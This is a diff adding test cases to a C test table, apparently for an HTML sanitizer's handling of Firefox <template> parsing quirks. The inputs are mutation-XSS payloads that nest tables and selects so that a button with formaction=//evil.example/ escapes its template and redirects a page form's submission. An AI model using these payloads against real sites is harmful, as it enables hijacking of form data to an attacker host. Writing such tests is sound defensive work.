@@ -465,6 +465,22 @@ static const row rows[] = {
      "<table><tbody><tr><td><template><tr></tr></tbody>" RF
      "<button formaction=//evil.example/>x</button></template>" RF CL,
      0},
+    /* a </tbody> in a table of the contents' own with no <tbody> open
+     * there: Firefox pops the page's <tbody>, whatever the first tag */
+    {"template inner table end tbody firefox",
+     "<table><tbody><tr><td><template><div><table><tfoot></tbody><button form=f formaction=//evil.example/>x</button>"
+     "</template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     "<table><tbody><tr><td><template><div><table><tfoot></tbody><button form=f formaction=//evil.example/>x</button>"
+     "</template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     0},
+    /* a </table> in a select there closes the select, then the page's
+     * table in Firefox */
+    {"template select end table firefox",
+     "<table><tbody><tr><td><template><caption><select></table><button form=f formaction=//evil.example/>x</button>"
+     "</select></template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     "<table><tbody><tr><td><template><caption><select></table><button form=f formaction=//evil.example/>x</button>"
+     "</select></template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     0},
     {"template nested cell caption firefox",
      "<template><table><tr><td><template><td><caption></template></template>" RF CL,
      "<template><table><tr><td><template><td><caption></template></template>" RF CL, 0},
